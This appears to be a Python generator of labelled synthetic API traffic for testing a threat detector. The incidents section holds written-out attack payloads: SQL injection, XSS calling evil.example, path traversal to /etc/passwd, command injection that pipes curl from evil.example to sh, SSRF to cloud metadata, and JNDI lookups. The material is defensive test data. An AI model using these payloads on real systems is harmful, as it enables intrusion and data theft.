"""Labelled attack traffic for the threat detector: an hour of a shop API with incidents mixed in.

Benign: ``users`` people (default 160), each with a JWT, their own orders and profile; they log
in, read their profile, list and open their own orders (so their objects are learnable from their
own responses), browse the catalogue, search (``O'Brien``, ``50% off``, ``C++ (3rd ed.)``) and
write notes (``<b>important</b>``). Traps, which must stay quiet: a batch client paging its own
(large) order listing fast and fetching every order, a health probe, a NAT address shared by 40
of the users, two admins using admin endpoints all hour, a user who mistypes a password twice.

Incidents (after the detector's learning period, each with its own address): a slow BOLA walk,
an id enumeration, a mass harvest through large pages, credential stuffing, a brute force, one
injection campaign per subtype, a scanner, a BFLA (a user calling admin functions), a quiet
reconnaissance (anomaly). Posture problems are planted on purpose-built endpoints.

Everything random comes from one ``random.Random(seed)``: same seed, same traffic.
"""

from __future__ import annotations

import base64
import json
import random
from collections.abc import Iterator
from dataclasses import dataclass, field

from analyzer.detect.model import DetectExchange

HOST = "shop.example"
START = 1_772_460_000.0  # 2026-03-02 14:00 UTC: daytime
HOUR = 3600.0
LEARNING = 900.0


@dataclass(frozen=True, slots=True)
class Incident:
    name: str
    type: str  # event type expected ("injection:sqli" for injection subtypes)
    ip: str
    acceptable: frozenset[str] = frozenset({"anomaly"})  # other types this behaviour also is


@dataclass
class Traffic:
    exchanges: list[DetectExchange] = field(default_factory=list)
    incidents: list[Incident] = field(default_factory=list)
    trap_ips: dict[str, str] = field(default_factory=dict)  # ip -> trap name
    benign_ips: set[str] = field(default_factory=set)
    posture_expected: set[tuple[str, str]] = field(default_factory=set)  # (subtype, template)


def _b64(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def jwt(sub: str, *, alg: str = "HS256", lifetime: float = 3600.0, now: float = START, extra: dict[str, object] | None = None) -> str:
    claims: dict[str, object] = {"iss": "https://id.shop.example", "sub": sub, "iat": int(now), "exp": int(now + lifetime)}
    claims.update(extra or {})
    return f"{_b64(json.dumps({'alg': alg, 'typ': 'JWT'}).encode())}.{_b64(json.dumps(claims).encode())}.{_b64(b'sig-' + sub.encode())}"


def _json(value: object) -> bytes:
    return json.dumps(value, separators=(",", ":")).encode()


class _Shop:
    """The API's answers: a small in-memory shop with users, orders and products."""

    def __init__(self, rng: random.Random, users: int) -> None:
        self.rng = rng
        self.user_ids = [10_000 + i for i in range(users)]
        order_ids = rng.sample(range(500_000, 900_000), users * 12 + 1400)
        self.orders: dict[int, int] = {}  # order id -> owner user id
        self.by_user: dict[int, list[int]] = {}
        cursor = 0
        for uid in self.user_ids:
            n = rng.randint(3, 12)
            self.by_user[uid] = order_ids[cursor : cursor + n]
            cursor += n
        self.batch_orders = order_ids[cursor : cursor + 1200]
        self.products = list(range(1, 401))

    def order(self, oid: int, owner: int) -> dict[str, object]:
        return {"id": oid, "user_id": owner, "total": round(10 + oid % 190, 2), "email": f"user{owner}@mail.example",
                "address": f"{oid % 97} Main Street"}


class _Gen:
    def __init__(self, seed: int, users: int, start: float) -> None:
        self.rng = random.Random(seed)
        self.start = start
        # The shop (users, their orders) is the same world whatever the seed: the seed varies behaviour,
        # so consecutive hours (``hours``) are the same users with the same objects.
        self.shop = _Shop(random.Random(7_000 + users), users)
        self.out = Traffic()

    def x(self, ts: float, ip: str, method: str, path: str, status: int, *, token: str | None = None,
          query: str = "", template: str | None = None, params: tuple[tuple[str, str], ...] = (),
          body: object = None, response: object = None, pii: tuple[tuple[str, int], ...] = (),
          headers: tuple[tuple[str, str], ...] = (), response_headers: tuple[tuple[str, str], ...] = ()) -> None:
        req_headers = [("Host", HOST), ("User-Agent", "ShopApp/4.2 (iOS 18.1)")] + list(headers)
        if token is not None:
            req_headers.append(("Authorization", f"Bearer {token}"))
        request_body = b""
        if body is not None:
            request_body = body if isinstance(body, bytes) else _json(body)
            req_headers.append(("Content-Type", "application/json"))
        response_body = _json(response) if response is not None else b""
        self.out.exchanges.append(DetectExchange(
            ts=ts, client_ip=ip, host=HOST, method=method, path=path, query=query, status=status,
            template=template or path, path_params=params, request_headers=tuple(req_headers),
            response_headers=(("Content-Type", "application/json"), *response_headers),
            request_body=request_body, response_body=response_body,
            response_content_type="application/json" if response is not None else "", pii=pii,
        ))

    # --- benign ------------------------------------------------------------------------------
    def user_session(self, n: int, uid: int, ip: str, t0: float, t1: float) -> None:
        rng, shop = self.rng, self.shop
        token = jwt(f"u{uid}", now=self.start)
        name = f"user{uid}"
        t = t0
        own = shop.by_user[uid]
        if n % 9 == 0:  # the retrying user: two typos, then in
            for attempt in range(3):
                ok = attempt == 2
                self.x(t, ip, "POST", "/api/login", 200 if ok else 401, body={"username": name, "password": "Tr0ub4dor&3x"},
                       response={"token": "…", "user_id": uid} if ok else {"error": "invalid credentials"})
                t += rng.uniform(3, 8)
        else:
            self.x(t, ip, "POST", "/api/login", 200, body={"username": name, "password": f"S3cure-{uid}-pass"},
                   response={"token": "…", "user_id": uid})
        while t < t1:
            t += rng.uniform(15, 75)
            roll = rng.random()
            profile = {"id": uid, "email": f"{name}@mail.example", "name": f"Name {uid}", "phone": f"+1555{uid:07d}"}
            if roll < 0.12:
                self.x(t, ip, "GET", "/api/users/me", 200, token=token, response=profile, pii=(("EMAIL", 1), ("PHONE", 1)))
            elif roll < 0.22:
                self.x(t, ip, "GET", f"/api/users/{uid}", 200, token=token, template="/api/users/{id}", params=(("id", str(uid)),),
                       response=profile, pii=(("EMAIL", 1), ("PHONE", 1)))
            elif roll < 0.40:
                page = [shop.order(o, uid) for o in own]
                self.x(t, ip, "GET", "/api/orders", 200, token=token, query="page=1&limit=20", response={"items": page},
                       pii=(("EMAIL", len(page)), ("ADDRESS", len(page))))
            elif roll < 0.58:
                oid = rng.choice(own)
                self.x(t, ip, "GET", f"/api/orders/{oid}", 200, token=token, template="/api/orders/{id}", params=(("id", str(oid)),),
                       response=shop.order(oid, uid), pii=(("EMAIL", 1), ("ADDRESS", 1)))
            elif roll < 0.76:
                page_no = rng.randint(1, 20)
                items = [{"id": p, "name": f"Product {p}", "price": p % 50 + 1} for p in shop.products[(page_no - 1) * 20 : page_no * 20]]
                self.x(t, ip, "GET", "/api/products", 200, token=token, query=f"page={page_no}", response={"items": items})
                if items and rng.random() < 0.7:
                    pid = rng.choice(items)["id"]
                    t += rng.uniform(2, 10)
                    self.x(t, ip, "GET", f"/api/products/{pid}", 200, token=token, template="/api/products/{id}",
                           params=(("id", str(pid)),), response={"id": pid, "name": f"Product {pid}"})
            elif roll < 0.88:
                q = rng.choice(["O'Brien", "rock & roll", "50% off", "C++ (3rd ed.)", "shoes size 42", "\"red dress\"",
                                "tea; coffee", "AT&T charger", "café crème", "1/2 price", "select a gift", "union jack"])
                from urllib.parse import quote

                self.x(t, ip, "GET", "/api/search", 200, token=token, query=f"q={quote(q)}", response={"items": []})
            elif roll < 0.95:
                text = rng.choice(["<b>important</b>: call back", "Meeting at 5pm; bring the docs (and coffee)",
                                   "Use the 'gift' wrap - it's for Mum's birthday!", "a < b and c > d, e.g. 3 > 2",
                                   "don't forget: 1 = 1 is true", "Run `make test` before pushing"])
                note_id = rng.randint(1, 10**9)
                self.x(t, ip, "POST", "/api/notes", 201, token=token, body={"text": text}, response={"id": note_id},
                       response_headers=(("Location", f"/api/notes/{note_id}"),))
            else:
                oid = rng.choice(own)
                self.x(t, ip, "PUT", f"/api/orders/{oid}", 200, token=token, template="/api/orders/{id}", params=(("id", str(oid)),),
                       body={"note": "leave at the door"}, response=shop.order(oid, uid), pii=(("EMAIL", 1),))

    def traps(self) -> None:
        rng, shop, s = self.rng, self.shop, self.start
        out = self.out
        # batch client: pages its own big listing fast, then fetches every order it listed
        ip = "10.20.0.5"
        out.trap_ips[ip] = "batch client paging its own listing"
        token = jwt("svc-batch-export", now=s)
        t = s + 5
        while t < s + HOUR - 120:
            for page in range(60):
                items = [shop.order(o, 1) for o in shop.batch_orders[page * 20 : page * 20 + 20]]
                self.x(t, ip, "GET", "/api/orders", 200, token=token, query=f"page={page + 1}&limit=20",
                       response={"items": items}, pii=(("EMAIL", 20), ("ADDRESS", 20)))
                t += 0.5
                for o in items[:5]:
                    oid = int(o["id"])  # type: ignore[call-overload]
                    self.x(t, ip, "GET", f"/api/orders/{oid}", 200, token=token, template="/api/orders/{id}",
                           params=(("id", str(oid)),), response=o, pii=(("EMAIL", 1),))
                    t += 0.2
            t += 600
        # health probe
        ip = "10.20.0.9"
        out.trap_ips[ip] = "health probe"
        t = s
        while t < s + HOUR:
            self.x(t, ip, "GET", "/health", 200, response={"status": "ok"}, headers=(("User-Agent", "kube-probe/1.29"),))
            t += 5
        # admins using admin endpoints all hour
        for k, ip in enumerate(("10.20.0.20", "10.20.0.21")):
            out.trap_ips[ip] = "admin using admin endpoints"
            token = jwt(f"admin-{k}", now=s)
            t = s + 30 + k * 45
            while t < s + HOUR:
                page = rng.sample(shop.user_ids, 25)
                self.x(t, ip, "GET", "/api/admin/users", 200, token=token, query="limit=25",
                       response={"items": [{"id": u, "email": f"user{u}@mail.example"} for u in page]}, pii=(("EMAIL", 25),))
                t += rng.uniform(20, 60)
                victim = page[0]
                method = rng.choice(["PATCH", "DELETE", "GET"])
                self.x(t, ip, method, f"/api/admin/users/{victim}", 200, token=token, template="/api/admin/users/{id}",
                       params=(("id", str(victim)),), response={"id": victim, "email": f"user{victim}@mail.example"}, pii=(("EMAIL", 1),))
                t += rng.uniform(60, 180)

    # --- incidents ---------------------------------------------------------------------------
    def incidents(self, rep: int = 0) -> None:
        """One incident of every type; ``rep`` shifts addresses, identities and start times."""
        rng, shop, s = self.rng, self.shop, self.start
        t0 = s + LEARNING + 120 + rep * 700
        net = f"198.51.{100 + rep}"
        inc = self.out.incidents
        others = [o for u in shop.user_ids[:40] for o in shop.by_user[u]]
        # bola: a slow, human-paced walk over other people's orders
        ip = f"{net}.10"
        inc.append(Incident("slow BOLA walk over other users' orders", "bola", ip, frozenset({"anomaly", "enumeration"})))
        token = jwt(f"u-eve-7781-{rep}", now=s)
        t = t0
        for oid in rng.sample(others, rng.randint(6, 10)):
            self.x(t, ip, "GET", f"/api/orders/{oid}", 200, token=token, template="/api/orders/{id}", params=(("id", str(oid)),),
                   response=shop.order(oid, shop.orders.get(oid, 0)), pii=(("EMAIL", 1), ("ADDRESS", 1)))
            t += rng.uniform(60, 150)
        # enumeration: sequential user ids, mostly 404
        ip = f"{net}.11"
        inc.append(Incident("sequential id enumeration", "enumeration", ip, frozenset({"anomaly", "bola", "scanner"})))
        token = jwt(f"u-enum-3321-{rep}", now=s)
        t = t0 + 300
        for uid in range(10_050 + rep * 7, 10_050 + rep * 7 + rng.randint(80, 150)):
            exists = uid in shop.by_user and uid % 3 == 0
            self.x(t, ip, "GET", f"/api/users/{uid}", 200 if exists else 404, token=token, template="/api/users/{id}",
                   params=(("id", str(uid)),), response={"id": uid, "email": f"user{uid}@mail.example"} if exists else {"error": "not found"},
                   pii=(("EMAIL", 1),) if exists else ())
            t += 0.6
        # mass harvest: large pages of everyone's orders
        ip = f"{net}.12"
        inc.append(Incident("mass harvest through large pages", "mass_harvest", ip))
        token = jwt(f"u-harvest-5150-{rep}", now=s)
        t = t0 + 600
        for page in range(6):
            items = [shop.order(o, 0) for o in others[:500]]
            self.x(t, ip, "GET", "/api/orders", 200, token=token, query=f"page={page + 1}&limit=500&scope=all",
                   response={"items": items}, pii=(("EMAIL", 500), ("ADDRESS", 500)))
            t += rng.uniform(20, 40)
        # credential stuffing: many user names, mostly refused
        ip = f"{net}.13"
        inc.append(Incident("credential stuffing", "credential_stuffing", ip))
        t = t0 + 200
        for k in range(rng.randint(40, 80)):
            ok = k % 25 == 7
            self.x(t, ip, "POST", "/api/login", 200 if ok else 401, body={"username": f"leaked{rep}-{k}@mail.example", "password": f"pw{k}x!"},
                   response={"token": "…"} if ok else {"error": "invalid credentials"}, headers=(("User-Agent", "python-requests/2.31"),))
            t += rng.uniform(1, 4)
        # brute force: one user, many passwords
        ip = f"{net}.14"
        inc.append(Incident("brute force on one account", "brute_force", ip))
        t = t0 + 900
        for k in range(rng.randint(25, 50)):
            self.x(t, ip, "POST", "/api/login", 401, body={"username": f"user{10003 + rep}", "password": f"guess{k}"},
                   response={"error": "invalid credentials"})
            t += rng.uniform(1, 3)
        # injection campaigns, one per subtype
        campaigns = {
            "sqli": [("GET", "/api/search", "q=" + p, None) for p in ("1%27%20OR%20%271%27%3D%271", "x%27%20UNION%20SELECT%20password%20FROM%20users--", "1%3BWAITFOR%20DELAY%20%270%3A0%3A5%27")],
            "xss": [("POST", "/api/notes", "", {"text": p}) for p in ('<script>alert(document.cookie)</script>', '<img src=x onerror=alert(1)>', '"><svg onload=fetch("//evil.example")>')],
            "path_traversal": [("GET", "/api/files", "name=" + p, None) for p in ("..%2F..%2F..%2Fetc%2Fpasswd", "....//....//etc/shadow", "%252e%252e%252fwindows%252fwin.ini")],
            "cmd_injection": [("GET", "/api/tools/ping", "host=" + p, None) for p in ("8.8.8.8%3Bcat%20%2Fetc%2Fpasswd", "127.0.0.1%20%7C%20id", "%24(curl%20http%3A%2F%2Fevil.example%2Fx.sh%7Csh)")],
            "ssrf": [("POST", "/api/webhooks", "", {"url": p}) for p in ("http://169.254.169.254/latest/meta-data/iam/", "http://127.0.0.1:6379/", "gopher://10.0.0.5:25/_HELO")],
            "jndi": [("GET", "/api/products", "page=1", None)] * 3,
        }
        for k, (subtype, requests) in enumerate(campaigns.items()):
            ip = f"{net}.{30 + k}"
            acceptable = frozenset({"anomaly", "scanner"} | {f"injection:{o}" for o in ("sqli", "xss", "path_traversal", "cmd_injection")})
            inc.append(Incident(f"{subtype} campaign", f"injection:{subtype}", ip, acceptable))
            token = jwt(f"u-inj-{k}-{rep}", now=s)
            t = t0 + 100 + 150 * k
            for method, path, query, body in requests:
                headers: tuple[tuple[str, str], ...] = ()
                if subtype == "jndi":
                    headers = (("User-Agent", "${jndi:ldap://evil.example:1389/a}"), ("X-Api-Version", "${${lower:j}ndi:rmi://evil.example/x}"))
                self.x(t, ip, method, path, 200 if subtype != "path_traversal" else 400, token=token, query=query, body=body,
                       response={"ok": True}, headers=headers)
                t += rng.uniform(5, 30)
        # scanner: a burst of probe and nonexistent paths
        ip = f"{net}.40"
        inc.append(Incident("scanner", "scanner", ip, frozenset({"anomaly", "injection:path_traversal"})))
        t = t0 + 1200
        probes = ["/.env", "/.git/config", "/wp-login.php", "/phpmyadmin/", "/server-status", "/actuator/env", "/backup.zip"]
        probes += [f"/{w}" for w in rng.sample(["old", "test", "dev", "tmp", "v0", "beta", "legacy", "private", "staging", "cgi",
                                                "uploads", "files", "data", "export", "import", "api/v0", "api/internal", "debug2",
                                                "portal", "login2", "shop2", "cart2", "user2", "admin2", "images2", "static2"], 26)]
        for path in probes:
            self.x(t, ip, "GET", path, 404, template=None, response={"error": "not found"},
                   headers=(("User-Agent", "Mozilla/5.0 (X11; Linux x86_64)"),))
            self.out.exchanges[-1] = _without_template(self.out.exchanges[-1])
            t += rng.uniform(0.2, 1.0)
        # bfla: a normal user calling admin functions
        ip = f"{net}.41"
        inc.append(Incident("user calling admin functions", "bfla", ip, frozenset({"anomaly", "bola"})))
        token = jwt(f"u-mallory-4404-{rep}", now=s)
        t = t0 + 400
        for k in range(4):
            page = shop.user_ids[k * 10 : k * 10 + 10]
            self.x(t, ip, "GET", "/api/admin/users", 200, token=token, query="limit=10",
                   response={"items": [{"id": u, "email": f"user{u}@mail.example"} for u in page]}, pii=(("EMAIL", 10),))
            t += rng.uniform(30, 90)
            self.x(t, ip, "DELETE", f"/api/admin/users/{page[0]}", 200, token=token, template="/api/admin/users/{id}",
                   params=(("id", str(page[0])),), response={"deleted": True})
            t += rng.uniform(30, 90)
        # anomaly: quiet reconnaissance over many endpoints with errors
        ip = f"{net}.42"
        inc.append(Incident("quiet reconnaissance", "anomaly", ip, frozenset({"scanner", "enumeration", "bola", "bfla"})))
        token = jwt(f"u-recon-9009-{rep}", now=s)
        t = t0 + 1500
        for k in range(45):
            path = f"/api/v{k % 3 + 1}/{rng.choice(['accounts', 'invoices', 'reports', 'exports', 'tenants', 'keys'])}/{k}"
            self.x(t, ip, "GET", path, rng.choice([401, 403, 403, 200]), token=token,
                   template=path.rsplit("/", 1)[0] + "/{id}", params=(("id", str(k)),), response={"error": "forbidden"})
            t += rng.uniform(3, 7)

    def posture(self) -> None:
        s, rng = self.start, self.rng
        exp = self.out.posture_expected
        t = s + 60
        for k in range(30):
            ip = f"10.30.0.{k % 5 + 1}"
            basic = base64.b64encode(b"legacy:password1").decode()
            self.x(t + k * 100, ip, "GET", "/api/legacy/report", 200, headers=(("Authorization", f"Basic {basic}"),),
                   response={"ok": 1}, response_headers=(("Server", "nginx/1.18.0"),))
            self.x(t + k * 100 + 1, ip, "GET", "/api/v1/partner/stock", 200, token=jwt("partner-1", alg="none", lifetime=90 * 86400, now=s),
                   response={"ok": 1})
            self.x(t + k * 100 + 2, ip, "GET", "/actuator/env", 200, response={"propertySources": []})
            self.x(t + k * 100 + 3, ip, "GET", "/api/public/prices", 200, headers=(("Origin", "https://evil.example"),),
                   response={"ok": 1}, response_headers=(("Access-Control-Allow-Origin", "https://evil.example"),
                                                          ("Access-Control-Allow-Credentials", "true")))
            self.x(t + k * 100 + 4, ip, "GET", f"/api/reports/{k}", 500, template="/api/reports/{id}", params=(("id", str(k)),),
                   response={"error": "Traceback (most recent call last):\n  File \"/app/reports.py\", line 42, in render"})
            self.x(t + k * 100 + 5, ip, "GET", "/api/export", 200, query=f"api_key=live_{rng.randint(10**15, 10**16)}", response={"ok": 1})
        for subtype, template in [("basic_auth_cleartext", "/api/legacy/report"), ("weak_password", "/api/legacy/report"),
                                  ("server_version_disclosure", "*"), ("jwt_alg_none", "/api/v1/partner/stock"),
                                  ("jwt_long_lifetime", "/api/v1/partner/stock"), ("debug_endpoint_exposed", "/actuator/env"),
                                  ("cors_reflected_origin", "/api/public/prices"), ("verbose_error", "/api/reports/{id}"),
                                  ("credentials_in_url", "/api/export"), ("sequential_ids_pii", "/api/users/{id}")]:
            exp.add((subtype, template))


def _without_template(x: DetectExchange) -> DetectExchange:
    from dataclasses import replace

    return replace(x, template=None, path_params=())


def generate(seed: int = 1, users: int = 160, start: float = START, with_incidents: bool = True, reps: int = 3) -> Traffic:
    """One hour of traffic, in timestamp order, with its labels (``reps`` incidents of each type)."""
    gen = _Gen(seed, users, start)
    nat = "203.0.113.50"
    gen.out.trap_ips[nat] = "NAT address shared by many users"
    for n, uid in enumerate(gen.shop.user_ids):
        ip = nat if n < 40 else f"100.64.{n // 200}.{n % 200 + 1}"
        gen.out.benign_ips.add(ip)
        t0 = start + gen.rng.uniform(0, 300)
        gen.user_session(n, uid, ip, t0, start + HOUR)
    gen.traps()
    if with_incidents:
        for rep in range(reps):
            gen.incidents(rep)
        gen.posture()
    for oid, uid in ((o, u) for u, orders in gen.shop.by_user.items() for o in orders):
        gen.shop.orders[oid] = uid
    gen.out.exchanges.sort(key=lambda x: x.ts)
    return gen.out


def hours(n: int, seed: int = 1, users: int = 160) -> Iterator[DetectExchange]:
    """``n`` consecutive hours of benign-plus-traps traffic (for the flat-memory check)."""
    for h in range(n):
        yield from generate(seed + h, users, START + h * HOUR, with_incidents=False).exchanges
